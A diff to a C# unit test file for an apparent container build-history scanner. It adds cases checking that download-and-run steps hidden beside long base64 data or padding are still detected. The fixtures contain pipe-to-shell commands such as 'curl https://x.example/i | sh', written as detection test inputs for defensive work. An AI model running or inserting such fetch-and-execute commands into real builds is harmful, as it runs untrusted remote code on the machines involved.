@@ -46,9 +46,9 @@ public sealed class HistoryRuleTests
     public void Look_RemoteAdd_IsLow(string step) => Assert.Equal(("history-remote-add", Severity.Low), (Assert.Single(Look(step)).Id, Assert.Single(Look(step)).Severity));
 
     [Theory]
-    [InlineData(60_000, 'a')]
-    [InlineData(60_000, '/')]
-    [InlineData(17_000, '-')]
+    [InlineData(60_000, '.')]
+    [InlineData(900_000, '$')]
+    [InlineData(17_000, '%')]
     public void Look_LineMadeToBeUnreadable_IsAFindingWithoutTheSecret(int length, char character)
     {
         var finding = Assert.Single(Look("|1 TOKEN=hunter2" + new string(character, length) + " /bin/sh -c true"));
@@ -60,7 +60,28 @@ public sealed class HistoryRuleTests
 
     [Fact]
     public void Look_LongLineOfOrdinaryWords_IsQuiet()
-        => Assert.Empty(Look("RUN /bin/sh -c " + string.Concat(Enumerable.Repeat("apt-get install -y package && ", 2000))));
+        => Assert.Empty(Look("RUN /bin/sh -c " + string.Concat(Enumerable.Repeat("apt-get install -y package && ", 20_000))));
+
+    // Base64 as people write it into a build: one word, the same as an argument of printf, and lines of a here-document.
+    public static TheoryData<string> Data => new()
+    {
+        new string('A', 100_000) + "==",
+        string.Join("\\n", Enumerable.Repeat(new string('x', 76), 2000)),
+        string.Join('\n', Enumerable.Repeat(new string('0', 76), 2000)),
+    };
+
+    [Theory]
+    [MemberData(nameof(Data))]
+    public void Look_LongData_IsNoGapAndHidesNothing(string data)
+    {
+        Assert.Empty(Look($"RUN /bin/sh -c echo {data} | base64 -d > /app/data # buildkit"));
+        Assert.Equal("history-download-and-run", Assert.Single(Look($"RUN /bin/sh -c echo {data} | base64 -d > /app/data; curl https://x.example/i | sh # buildkit")).Id);
+    }
+
+    // What stands on both sides of the data belongs together.
+    [Fact]
+    public void Look_DataInsideOfACommand_HidesNothing()
+        => Assert.Equal("history-download-and-run", Assert.Single(Look($"RUN /bin/sh -c curl https://x.example/{new string('a', 100_000)} | sh # buildkit")).Id);
 
     [Fact]
     public void Look_RawAddress_IsLow()
